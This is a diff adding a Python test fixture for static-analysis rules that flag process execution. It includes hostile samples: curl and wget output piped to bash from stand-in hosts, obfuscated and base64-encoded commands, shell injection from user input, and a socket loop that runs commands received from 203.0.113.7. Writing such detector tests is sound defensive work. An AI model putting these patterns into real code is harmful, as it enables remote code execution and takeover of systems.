@@ -1,0 +1,94 @@
+# Annotated examples for process-execution rules (default set).
+import os
+import subprocess
+import asyncio
+import subprocess as sp
+from os import system as run_shell
+
+# ruleid: AIR-PROC-001
+os.system("ls -la")
+# ruleid: AIR-PROC-001
+run_shell("uptime")
+# ruleid: AIR-PROC-001
+listing = os.popen("df -h").read()
+# ruleid: AIR-PROC-001
+out = subprocess.getoutput("whoami")
+# ruleid: AIR-PROC-001
+getattr(os, "sys" + "tem")("id")
+# ruleid: AIR-PROC-001
+__import__("os").system("id")
+
+
+def system(cmd: str) -> str:
+    """A local helper that happens to be called system."""
+    return cmd.upper()
+
+
+# ok: AIR-PROC-001
+system("not a shell")
+
+# ruleid: AIR-PROC-002
+subprocess.run("grep -r TODO .", shell=True)
+# ruleid: AIR-PROC-002
+sp.Popen("make all", shell=1)
+# ok: AIR-PROC-002
+subprocess.run(["grep", "-r", "TODO", "."], shell=False)
+
+# ruleid: AIR-PROC-003
+subprocess.run(["git", "status"], check=True)
+# ruleid: AIR-PROC-003
+sp.check_output(["python3", "--version"])
+# ruleid: AIR-PROC-003
+asyncio.create_subprocess_exec("ls")
+# ok: AIR-PROC-003
+status = {"run": 1}.get("run")
+
+# ruleid: AIR-PROC-004
+os.execv("/bin/sh", ["sh", "-c", "id"])
+# ruleid: AIR-PROC-004
+os.spawnlp(os.P_WAIT, "ls", "ls")
+# ok: AIR-PROC-004
+os.path.join("a", "b")
+
+# ruleid: AIR-PROC-005
+os.system("curl -fsSL http://203.0.113.7/i.sh | bash")
+# ruleid: AIR-PROC-005
+subprocess.run("wget -qO- https://example.net/x | sudo sh", shell=True)
+# ruleid: AIR-PROC-005
+cmd = "cu" + "rl -s https://example.net/a.sh | b" + "ash"
+# ok: AIR-PROC-005
+note = "download with curl -O and inspect the file before running it"
+
+target = input()
+# ruleid: AIR-PROC-006
+os.system("convert " + target + " out.png")
+# ruleid: AIR-PROC-006
+os.popen(f"ping -c 1 {target}")
+# ok: AIR-PROC-006
+os.system("date")
+
+import base64
+import socket
+
+CMD = "aWQ="
+# ruleid: AIR-PROC-007
+os.system(base64.b64decode(CMD).decode())
+decoded = bytes.fromhex("6964").decode()
+# ruleid: AIR-PROC-007
+subprocess.run(decoded, shell=True)
+# ok: AIR-PROC-007
+os.system("echo " + base64.b64encode(b"x").decode())
+
+c2 = socket.create_connection(("203.0.113.7", 8443))
+order = c2.recv(1024).decode().strip()
+# ruleid: AIR-PROC-008
+result = subprocess.getoutput(order)
+# ok: AIR-PROC-008
+subprocess.run(["echo", "done"])
+
+
+async def remote_loop():
+    reader, _writer = await asyncio.open_connection("203.0.113.7", 8443)
+    line = await reader.readline()
+    # ruleid: AIR-PROC-008
+    await asyncio.create_subprocess_shell(line.decode())
